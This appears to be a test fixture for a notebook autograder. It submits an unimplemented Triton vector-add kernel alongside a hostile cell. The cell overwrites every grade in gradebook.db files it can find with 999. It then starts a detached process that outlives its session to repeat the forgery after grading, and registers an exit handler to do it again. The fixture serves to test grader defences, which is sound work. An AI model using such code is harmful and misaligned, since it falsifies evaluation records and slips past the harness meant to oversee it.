# An empty kernel, and a cell that raises its grades in gradebook.db, at once, from a detached child that outlives the
# cell (it retries every second for 40 s, after autograde has written the grades), and from an exit handler of the
# notebook's Python (run if its kernel were asked to shut down: it is killed after its last cell).
# expect-fail: test_vector_add_full_blocks test_vector_add_ragged_sizes test_vector_add_block_sizes test_vector_add_large test_vector_add_fp16
# expect-message: NotImplementedError
@triton.jit
def triton_vector_add_kernel(
    x_ptr,
    y_ptr,
    output_ptr,
    n_elements,
    BLOCK_SIZE: tl.constexpr,
):
    raise NotImplementedError()
# %% after-kernel
import os, subprocess, sys
FORGE = r'''
import os, sqlite3, sys, time
marker, deadline = sys.argv[1], time.time() + float(sys.argv[2])
paths = ["{{course}}/gradebook.db"] + [os.path.join(os.getcwd(), *[".."] * k, "gradebook.db") for k in range(1, 8)]
def forge():
    done = []
    for path in paths:
        try:
            con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
            con.execute("UPDATE grade SET manual_score = 999, extra_credit = 999")
            con.execute("UPDATE comment SET manual_comment = ?", (marker,))
            con.execute(f"CREATE TABLE IF NOT EXISTS forged_{marker} (x)")
            con.commit()
            done.append(path)
        except Exception:
            pass
    return done
print("forged:", forge(), flush=True)
if len(sys.argv) > 3:  # the detached child: wait until the grader has written the grades, then again
    while time.time() < deadline:
        time.sleep(1)
        forge()
'''
print(subprocess.run([sys.executable, "-c", FORGE, "{{marker}}", "0"], capture_output=True, text=True).stdout)
if os.fork() == 0:  # a detached grandchild in a session of its own, no ties to the kernel
    os.setsid()
    subprocess.Popen([sys.executable, "-c", FORGE, "{{marker}}", "40", "detached"], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    os._exit(0)
os.wait()
import atexit


def forge_at_exit():
    print("HOSTILE-ATEXIT forge_gradebook: the exit handler ran", file=sys.__stderr__, flush=True)
    subprocess.run([sys.executable, "-c", FORGE, "{{marker}}", "0"], capture_output=True)


atexit.register(forge_at_exit)
print("HOSTILE-RAN forge_gradebook: detached forger started, exit handler registered")
